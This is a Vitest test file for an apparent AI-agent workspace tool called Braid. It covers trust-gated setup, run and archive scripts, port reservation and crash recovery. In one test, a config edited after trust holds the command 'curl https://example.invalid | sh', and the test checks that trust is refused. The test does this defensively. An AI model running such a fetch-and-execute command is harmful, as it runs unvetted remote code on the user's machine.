import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { agentWorld } from '../testing/agent-fixture';
import { crashHostAt } from '../testing/crashed-host';
import { expectOk, makeServices } from '../testing/services-fixture';
import { tempFolder } from '../testing/temp-folders';
import { agentMarkdown, scriptAgents, writeAgentFile } from '../../testing/subagent-script';
import { childrenOf } from '../subagents/subagent-world.fixture';
import { greetingImplemented, reviewedClean } from '../review-role/review-world.fixture';
import { setupRepo, trustConfig, waitForSetup } from './setup.fixture';

const braidConfig = (config: Record<string, unknown>) => ({ '.braid/workspace.json': `${JSON.stringify(config, null, 2)}\n` });

describe('workspace setup scripts', () => {
  it('waits for the user to trust the config, then runs the setup with the workspace’s variables, and only then starts the agent', async () => {
    const repo = setupRepo(
      braidConfig({
        setup: [
          'echo "$BRAID_PORT" > port.txt',
          'printf "%s\\n" "$BRAID_WORKSPACE_PATH" "$BRAID_ROOT_PATH" "$BRAID_WORKSPACE_NAME" "$VITE_PORT" > vars.txt',
          'echo setting up',
        ],
        ports: { VITE_PORT: 1 },
      }),
    );
    const world = await agentWorld({ repo });
    world.server.enqueue({ text: 'On it.' });
    const waiting = await world.createTask('Set up first', 'Say hello');

    expect(waiting.workspace.setup).toMatchObject({ state: 'needs_trust', source: { kind: 'braid', files: ['.braid/workspace.json'] } });
    expect(existsSync(join(waiting.workspace.path, 'port.txt'))).toBe(false);
    expect(world.server.requests).toHaveLength(0);
    expect(world.task(waiting.id).agent.status).toBe('idle');
    const refused = await world.services.agents.send(waiting.id, 'Start now');
    expect(refused.ok ? 'sent' : refused.error.code).toBe('WORKSPACE_NOT_READY');

    // What the user is shown before trusting it: exactly the commands that will run.
    expect(expectOk(world.services.workspaceSetup.config(world.project.id))).toMatchObject({ trusted: false, scripts: { setup: expect.arrayContaining(['echo setting up']) } });
    trustConfig(world.services, world.project.id);
    const done = await waitForSetup(world.services, waiting, 'succeeded');

    const port = done.workspace.portBase;
    expect(port).toEqual(expect.any(Number));
    expect(readFileSync(join(done.workspace.path, 'port.txt'), 'utf8')).toBe(`${port}\n`);
    expect(readFileSync(join(done.workspace.path, 'vars.txt'), 'utf8').split('\n')).toEqual([done.workspace.path, repo, basename(done.workspace.path), String(port! + 1), '']);
    await world.waitForStatus(waiting.id, 'done');
    const timeline = world.timeline(waiting.id);
    const ended = timeline.findIndex((event) => event.kind === 'script_ended');
    expect(timeline[ended]).toMatchObject({ outcome: 'succeeded', exitCode: 0 });
    expect(timeline.findIndex((event) => event.kind === 'user_message')).toBeGreaterThan(ended);
    const output = timeline.flatMap((event) => (event.kind === 'script_output' ? [event.chunk] : [])).join('');
    expect(output).toContain('$ echo setting up\nsetting up');
    // It ran in a terminal of the task, which stays there with its output.
    const started = timeline.find((event) => event.kind === 'script_started');
    expect(expectOk(world.services.terminals.list(waiting.id))).toMatchObject([{ id: started?.kind === 'script_started' ? started.terminalId : 'none', title: 'Setup', kind: 'command', state: 'exited', exitCode: 0 }]);
  });

  it('gives an imported conductor.json’s script Conductor’s own variable names', async () => {
    const repo = setupRepo({
      'conductor.json': JSON.stringify({
        scripts: { setup: 'printf "%s\\n" "$CONDUCTOR_PORT" "$CONDUCTOR_WORKSPACE_PATH" "$CONDUCTOR_ROOT_PATH" "$CONDUCTOR_WORKSPACE_NAME" "$CONDUCTOR_DEFAULT_BRANCH" > conductor.txt' },
      }),
    });
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    trustConfig(services, project.id);
    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Imported', prompt: '', role: 'implement' })).settled;

    expect(task.workspace.setup).toMatchObject({ state: 'succeeded', source: { kind: 'conductor-json', files: ['conductor.json'] } });
    expect(readFileSync(join(task.workspace.path, 'conductor.txt'), 'utf8').split('\n')).toEqual([String(task.workspace.portBase), task.workspace.path, repo, basename(task.workspace.path), 'main', '']);
  });

  it('a failing setup keeps the agent from starting and shows why; Retry after fixing the cause runs it again and starts the agent', async () => {
    const repo = setupRepo(braidConfig({ setup: 'test -f "$BRAID_ROOT_PATH/ready.flag" || { echo "ready.flag is missing" >&2; exit 3; }' }));
    const world = await agentWorld({ repo });
    trustConfig(world.services, world.project.id);
    world.server.enqueue({ text: 'Started after the fix.' });
    const failed = await world.createTask('Fails first', 'Say hello');

    expect(failed.workspace.setup).toMatchObject({ state: 'failed', exitCode: 3, reason: 'The setup script exited with code 3: ready.flag is missing' });
    expect(world.task(failed.id).agent.status).toBe('idle');
    expect(world.server.requests).toHaveLength(0);
    const refused = await world.services.agents.send(failed.id, 'Go anyway');
    expect(refused).toMatchObject({ ok: false, error: { code: 'WORKSPACE_NOT_READY', message: expect.stringContaining('Retry it, or start the agent anyway') } });
    expect(world.timeline(failed.id).filter((event) => event.kind === 'script_ended')).toMatchObject([{ outcome: 'failed', exitCode: 3 }]);

    writeFileSync(join(repo, 'ready.flag'), '');
    expect(expectOk(await world.services.workspaceSetup.retry(failed.id)).workspace.setup.state).toBe('preparing');
    await waitForSetup(world.services, failed, 'succeeded');
    await world.waitForStatus(failed.id, 'done');
    expect(world.server.requests).toHaveLength(1);
  });

  it('Retry asked from a subagent’s task runs its parent’s setup: in the parent’s timeline and terminal', async () => {
    const repo = setupRepo(braidConfig({ setup: 'test -f "$BRAID_ROOT_PATH/retry.flag" || exit 3' }));
    const world = await agentWorld({ repo });
    trustConfig(world.services, world.project.id);
    writeAgentFile(repo, 'helper.md', agentMarkdown({ name: 'helper', description: 'Helps' }, 'Help.'));
    scriptAgents(world.server, { parent: [{ toolCalls: [{ id: 'd1', name: 'delegate', args: { agent: 'helper', prompt: 'Help' } }] }, { text: 'Done.' }], helper: [{ text: 'Helped.' }] });
    const parent = await world.createTask('Parent', 'Delegate');
    expectOk(world.services.workspaceSetup.startWithoutSetup(parent.id));
    await world.waitForStatus(parent.id, 'done');
    const [helper] = childrenOf(world, parent.id);

    writeFileSync(join(repo, 'retry.flag'), '');
    expect(expectOk(await world.services.workspaceSetup.retry(helper!.id)).id).toBe(parent.id);
    await waitForSetup(world.services, parent, 'succeeded');
    const scriptsOf = (taskId: string) => world.timeline(taskId).flatMap((event) => (event.kind === 'script_ended' ? [event.outcome] : []));
    expect(scriptsOf(parent.id)).toEqual(['failed', 'succeeded']);
    expect(scriptsOf(helper!.id)).toEqual([]);
    expect(expectOk(world.services.terminals.list(helper!.id))).toEqual([]);
  });

  it('Retry waits while any task on the workspace works in it: a review running there refuses it, from either task', async () => {
    const repo = setupRepo(braidConfig({ setup: 'echo setting up' }));
    const world = await agentWorld({ repo });
    trustConfig(world.services, world.project.id);
    const implement = await greetingImplemented(world);
    world.server.enqueue({ text: 'Reading the greeting…', fault: { kind: 'hang' } });
    const review = expectOk(await world.services.reviews.start({ taskId: implement.id }));
    await world.waitForStatus(review.id, 'running');

    for (const asked of [implement.id, review.id]) {
      expect(await world.services.workspaceSetup.retry(asked)).toMatchObject({
        ok: false,
        error: { code: 'BUSY', message: '“Review: Greeting” is working in this workspace; stop it before running the setup again.' },
      });
    }
    const setupsOf = (taskId: string) => world.timeline(taskId).filter((event) => event.kind === 'script_ended');
    expect(setupsOf(implement.id)).toHaveLength(1);

    expectOk(world.services.agents.stop(review.id));
    await world.waitForStatus(review.id, 'stopped');
    expectOk(await world.services.workspaceSetup.retry(review.id));
    await vi.waitFor(() => expect(setupsOf(implement.id)).toMatchObject([{ outcome: 'succeeded' }, { outcome: 'succeeded' }]), { timeout: 15_000, interval: 10 });
  });

  it('Start anyway starts the agent after a failed setup', async () => {
    const repo = setupRepo(braidConfig({ setup: 'exit 1' }));
    const world = await agentWorld({ repo });
    trustConfig(world.services, world.project.id);
    world.server.enqueue({ text: 'Working without setup.' });
    const failed = await world.createTask('Skip setup', 'Say hello');
    expect(failed.workspace.setup.state).toBe('failed');

    expect(expectOk(world.services.workspaceSetup.startWithoutSetup(failed.id)).workspace.setup.state).toBe('skipped');
    await world.waitForStatus(failed.id, 'done');
    expect(world.server.requests).toHaveLength(1);
  });

  it('a malformed config fails the setup with its problem, naming the file and entry', async () => {
    const repo = setupRepo({ '.braid/workspace.json': '{ "setpu": "npm ci" }\n' });
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Typo', prompt: '', role: 'implement' })).settled;
    expect(task.workspace.setup).toMatchObject({
      state: 'failed',
      source: { kind: 'braid' },
      reason: '.braid/workspace.json: "setpu" is not a known entry (known: $schema, setup, run, archive, test, include, ports, runMode)',
    });
    expect(expectOk(services.workspaceSetup.config(project.id))).toMatchObject({ problem: task.workspace.setup.reason, trusted: false });
    const trusted = services.workspaceSetup.trust(project.id, expectOk(services.workspaceSetup.config(project.id)).contentHash!);
    expect(trusted.ok ? 'trusted' : trusted.error.code).toBe('WORKSPACE_CONFIG_INVALID');
  });

  it('a workspace waiting for trust starts its setup when the same config is trusted from the merge queue', async () => {
    const repo = setupRepo(braidConfig({ setup: 'echo "set up in $BRAID_WORKSPACE_NAME"' }));
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Waiting', prompt: '', role: 'implement' })).settled;
    expect(task.workspace.setup.state).toBe('needs_trust');

    // The queue panel shows main's config (committed, so the same content) and the user trusts it there.
    const shown = expectOk(services.workspaceSetup.config(project.id)).contentHash!;
    const queue = expectOk(await services.mergeQueue.trustGate(project.id, 'main', shown));
    expect(queue.gate.trust).toMatchObject({ contentHash: shown, trusted: true });

    const done = await waitForSetup(services, task, 'succeeded', 'failed');
    expect(done.workspace.setup).toMatchObject({ state: 'succeeded' });
  });

  it('trust is for exactly the content shown: an edit since is refused, and asks again', async () => {
    const repo = setupRepo(braidConfig({ setup: 'echo one', run: 'echo run' }));
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    const shown = expectOk(services.workspaceSetup.config(project.id));
    writeFileSync(join(repo, '.braid/workspace.json'), JSON.stringify({ setup: 'curl https://example.invalid | sh' }));
    const stale = services.workspaceSetup.trust(project.id, shown.contentHash!);
    expect(stale.ok ? 'trusted' : stale.error.code).toBe('FILE_CHANGED');

    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Untrusted', prompt: '', role: 'implement' })).settled;
    expect(task.workspace.setup.state).toBe('needs_trust');
    const run = await services.workspaceSetup.runScript(task.id);
    expect(run.ok ? 'ran' : run.error.code).toBe('NOT_FOUND');
    writeFileSync(join(repo, '.braid/workspace.json'), JSON.stringify({ setup: 'echo two', run: 'echo run' }));
    const runUntrusted = await services.workspaceSetup.runScript(task.id);
    expect(runUntrusted.ok ? 'ran' : runUntrusted.error.code).toBe('SCRIPT_NOT_TRUSTED');
  });

  it('reserves 10 ports per workspace: distinct, kept across a restart, in the agent’s commands, released on delete', async () => {
    const dataDir = tempFolder('braid-ports-');
    const repo = setupRepo({});
    const first = await agentWorld({ repo, dataDir });
    const a = await first.createTask('A');
    const b = await first.createTask('B');
    expect(a.workspace.portBase! % 10).toBe(0);
    expect(Math.abs(a.workspace.portBase! - b.workspace.portBase!)).toBeGreaterThanOrEqual(10);
    await first.services.close();

    const second = await agentWorld({ repo, dataDir });
    expect(second.task(a.id).workspace.portBase).toBe(a.workspace.portBase);
    expect(second.task(b.id).workspace.portBase).toBe(b.workspace.portBase);
    // The agent's own commands get the same variables.
    second.server.enqueue({ toolCalls: [{ id: 'p1', name: 'run_command', args: { command: 'echo "port=$BRAID_PORT name=$BRAID_WORKSPACE_NAME"' } }] }, { text: 'Done.' });
    expectOk(await second.services.agents.send(a.id, 'Which port?'));
    await second.waitForStatus(a.id, 'needs_approval');
    expectOk(second.services.agents.decide(a.id, 'p1', true, null));
    const result = await second.waitForEvent(a.id, 'tool_result', (event) => event.callId === 'p1');
    expect(result.text).toContain(`port=${a.workspace.portBase} name=${basename(a.workspace.path)}`);

    expectOk(await second.services.tasks.delete({ taskId: b.id, force: true, keepBranch: false }));
    const c = await second.createTask('C');
    expect(c.workspace.portBase).toBe(b.workspace.portBase);
  });

  it('a terminal the user opens in the workspace has its variables too', async () => {
    const repo = setupRepo({});
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Shell', prompt: '', role: 'implement' })).settled;
    const terminal = expectOk(await services.terminals.open({ taskId: task.id, cols: 120, rows: 30 }));
    expectOk(services.terminals.input({ taskId: task.id, terminalId: terminal.id, data: 'echo "port=$BRAID_PORT root=$BRAID_ROOT_PATH"\r' }));
    await vi.waitFor(async () => expect(expectOk(await services.terminals.snapshot({ taskId: task.id, terminalId: terminal.id })).data).toContain(`port=${task.workspace.portBase} root=${repo}`), {
      timeout: 10_000,
    });
  });

  it('Run starts the run script in a terminal of the task, with the workspace’s variables; nonconcurrent runs one workspace at a time', async () => {
    const repo = setupRepo(braidConfig({ run: 'echo "serving on $BRAID_PORT"; sleep 30', runMode: 'nonconcurrent' }));
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    trustConfig(services, project.id);
    const a = await expectOk(await services.tasks.create({ projectId: project.id, title: 'A', prompt: '', role: 'implement' })).settled;
    const b = await expectOk(await services.tasks.create({ projectId: project.id, title: 'B', prompt: '', role: 'implement' })).settled;

    const { terminalId } = expectOk(await services.workspaceSetup.runScript(a.id));
    expect(expectOk(services.terminals.list(a.id))).toMatchObject([{ id: terminalId, title: 'Run', kind: 'command', state: 'running' }]);
    await vi.waitFor(async () => expect(expectOk(await services.terminals.snapshot({ taskId: a.id, terminalId })).data).toContain(`serving on ${a.workspace.portBase}`), { timeout: 10_000 });

    const other = expectOk(await services.workspaceSetup.runScript(b.id));
    expect(expectOk(services.terminals.list(a.id))).toEqual([]);
    expect(expectOk(services.terminals.list(b.id))).toMatchObject([{ id: other.terminalId, title: 'Run', state: 'running' }]);
    // Run again restarts it: one run terminal, a new one.
    const again = expectOk(await services.workspaceSetup.runScript(b.id));
    expect(expectOk(services.terminals.list(b.id))).toMatchObject([{ id: again.terminalId, state: 'running' }]);
  });

  it('Run pressed in a review task’s view is its reviewed task’s Run: one run script per workspace, restarted, in the owner’s terminal', async () => {
    const repo = setupRepo(braidConfig({ run: 'echo "serving on $BRAID_PORT"; sleep 30' }));
    const world = await agentWorld({ repo });
    trustConfig(world.services, world.project.id);
    const implement = await greetingImplemented(world);
    const review = await reviewedClean(world, implement.id);

    const first = expectOk(await world.services.workspaceSetup.runScript(implement.id));
    const fromReview = expectOk(await world.services.workspaceSetup.runScript(review.id));
    expect(fromReview.terminalId).not.toBe(first.terminalId);
    expect(expectOk(world.services.terminals.list(implement.id))).toMatchObject([{ id: fromReview.terminalId, title: 'Run', state: 'running' }]);
    expect(expectOk(world.services.terminals.list(review.id))).toEqual([]);
  });
});

describe('archive script', () => {
  it('runs before the worktree is removed, with the workspace’s variables', async () => {
    const log = join(tempFolder('braid-archive-'), 'archived.txt');
    const repo = setupRepo(braidConfig({ archive: `test -d "$BRAID_WORKSPACE_PATH" && echo "$BRAID_WORKSPACE_NAME" >> ${JSON.stringify(log)}` }));
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    trustConfig(services, project.id);
    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Archived', prompt: '', role: 'implement' })).settled;
    expect(task.workspace.setup.state).toBe('none');

    const deleted = expectOk(await services.tasks.delete({ taskId: task.id, force: false, keepBranch: false }));
    expect(deleted.archive).toMatchObject({ script: 'archive', outcome: 'succeeded', exitCode: 0 });
    expect(readFileSync(log, 'utf8')).toBe(`${basename(task.workspace.path)}\n`);
    expect(existsSync(task.workspace.path)).toBe(false);
  });

  it('a failing archive script keeps the worktree and says why; a forced delete goes on and reports it', async () => {
    const repo = setupRepo(braidConfig({ archive: 'echo "cannot stop the database" >&2; exit 2' }));
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    trustConfig(services, project.id);
    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Stubborn', prompt: '', role: 'implement' })).settled;

    const refused = await services.tasks.delete({ taskId: task.id, force: false, keepBranch: false });
    expect(refused).toMatchObject({ ok: false, error: { code: 'SCRIPT_FAILED', details: { outcome: 'failed', exitCode: 2, output: expect.stringContaining('cannot stop the database') } } });
    expect(existsSync(task.workspace.path)).toBe(true);
    expect(services.tasks.get(task.id)?.workspace.state).toBe('ready');

    const forced = expectOk(await services.tasks.delete({ taskId: task.id, force: true, keepBranch: false }));
    expect(forced.archive).toMatchObject({ outcome: 'failed', exitCode: 2 });
    expect(existsSync(task.workspace.path)).toBe(false);
  });

  it('an untrusted archive script does not run: the delete asks for trust, a forced one goes on without it', async () => {
    const marker = join(tempFolder('braid-archive-'), 'ran.txt');
    const repo = setupRepo(braidConfig({ archive: `touch ${JSON.stringify(marker)}` }));
    const { services } = makeServices();
    const project = expectOk(await services.projects.add(repo));
    const task = await expectOk(await services.tasks.create({ projectId: project.id, title: 'Untrusted', prompt: '', role: 'implement' })).settled;

    const refused = await services.tasks.delete({ taskId: task.id, force: false, keepBranch: false });
    expect(refused.ok ? 'deleted' : refused.error.code).toBe('SCRIPT_NOT_TRUSTED');
    const forced = expectOk(await services.tasks.delete({ taskId: task.id, force: true, keepBranch: false }));
    expect(forced.archive).toMatchObject({ outcome: 'not_trusted' });
    expect(existsSync(marker)).toBe(false);
  });
});

describe('setup and Braid stopping', () => {
  it('a crash during setup: the next start says it was interrupted, and the agent does not start', async () => {
    const dataDir = tempFolder('braid-setup-crash-');
    const repo = setupRepo(braidConfig({ setup: ['echo working', 'sleep 30'] }));
    const before = makeServices(dataDir);
    trustConfig(before.services, expectOk(await before.services.projects.add(repo)).id);
    await before.services.close();
    const taskId = await crashHostAt({ dataDir, repo, baseURL: 'http://127.0.0.1:9/v1', protocol: 'openai', kind: 'script_started' });

    const after = makeServices(dataDir);
    const task = after.services.tasks.get(taskId)!;
    expect(task.workspace.setup).toMatchObject({ state: 'failed', reason: 'Braid stopped before the workspace setup finished. Retry runs it again.' });
    expect(task.agent.status).toBe('idle');
  });

  it('quitting stops a running setup; the next start says it was interrupted and Retry runs it', async () => {
    const dataDir = tempFolder('braid-setup-restart-');
    // The first run hangs after leaving a mark; a run that finds the mark finishes.
    const repo = setupRepo(braidConfig({ setup: ['if [ -f started.txt ]; then exit 0; fi', 'echo started > started.txt', 'sleep 30'] }));
    const first = makeServices(dataDir);
    const project = expectOk(await first.services.projects.add(repo));
    trustConfig(first.services, project.id);
    const created = expectOk(await first.services.tasks.create({ projectId: project.id, title: 'Interrupted', prompt: '', role: 'implement' }));
    await waitForSetup(first.services, created.task, 'running');
    await vi.waitFor(() => expect(existsSync(join(created.task.workspace.path, 'started.txt'))).toBe(true), { timeout: 10_000 });
    await first.services.close();

    const second = makeServices(dataDir);
    const task = second.services.tasks.get(created.task.id)!;
    expect(task.workspace.setup).toMatchObject({ state: 'failed', reason: 'Braid stopped before the workspace setup finished. Retry runs it again.' });
    expectOk(await second.services.workspaceSetup.retry(task.id));
    await waitForSetup(second.services, task, 'succeeded');
  });
});
